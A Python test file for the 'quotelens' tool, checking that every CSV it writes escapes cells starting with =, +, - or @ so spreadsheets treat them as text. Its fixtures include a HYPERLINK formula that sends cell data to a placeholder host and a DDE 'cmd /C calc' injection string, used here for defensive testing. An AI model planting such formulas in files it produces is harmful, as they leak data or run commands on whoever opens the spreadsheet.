"""Every CSV quotelens writes opens as text in a spreadsheet (quotelens.spreadsheets): the pages' downloads,
the corrections CSV (which reads back as written) and the command line's CSV, one article or a corpus."""

from __future__ import annotations

import csv
import io

import pandas as pd

from quotelens import views
from quotelens.cli import main
from quotelens.corrections.files import from_csv, to_csv
from quotelens.corrections.model import Correction
from quotelens.spreadsheets import inert_cell, inert_frame, restored_cell

FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"see")'
STORY = f"Budget Row\n\nMayor Jo Park said {FORMULA} was the answer.\n\n“@council is wrong,” Park said.\n"


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_one_rule_both_ways():
    for text in (FORMULA, "+1", "-2", "@x", "\tx", "\rx"):
        assert inert_cell(text) == "'" + text and restored_cell(inert_cell(text)) == text
    for value in ("Park", "'quoted'", 3, None, "2-3"):
        assert inert_cell(value) == value and restored_cell(value) == value
    df = pd.DataFrame({"t": [FORMULA, "ok"], "n": [-1, 2]})
    assert inert_frame(df)["t"].tolist() == ["'" + FORMULA, "ok"] and inert_frame(df)["n"].tolist() == [-1, 2]
    assert views.to_csv_bytes(df) == inert_frame(df).to_csv(index=False).encode("utf-8")


def test_the_corrections_csv_is_inert_and_reads_back():
    fix = Correction("d" * 32, "10-20", speaker="=cmd|' /C calc'!A0", note="-see the video", original_text="@all")
    text = to_csv([fix])
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells(text))
    (back,) = from_csv(text)
    assert (back.speaker, back.note, back.original_text) == (fix.speaker, fix.note, fix.original_text)


def test_the_cli_csv_is_inert(tmp_path, capsys):
    (tmp_path / "budget.txt").write_text(STORY, encoding="utf-8")
    out = tmp_path / "quotes.csv"
    main(["extract", str(tmp_path / "budget.txt"), "--format", "csv", "--table", "paragraphs", "--out", str(out)])
    written = out.read_text(encoding="utf-8")
    assert FORMULA.replace('"', '""') in written  # the text is there, behind a '
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells(written))
    main(["extract", str(tmp_path / "budget.txt"), "--format", "csv", "--table", "quotes"])
    printed = capsys.readouterr().out
    assert "@council" in printed and not any(c.startswith(("=", "+", "-", "@")) for c in cells(printed))


def test_the_corpus_csv_is_inert(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "budget.txt").write_text(STORY, encoding="utf-8")
    main(["extract", str(tmp_path / "in"), "--format", "csv", "--out", str(tmp_path / "out")])
    written = {p.name: p.read_text(encoding="utf-8") for p in (tmp_path / "out").glob("*.csv")}
    assert "paragraphs.csv" in written and FORMULA.replace('"', '""') in written["paragraphs.csv"]
    for text in written.values():
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells(text))
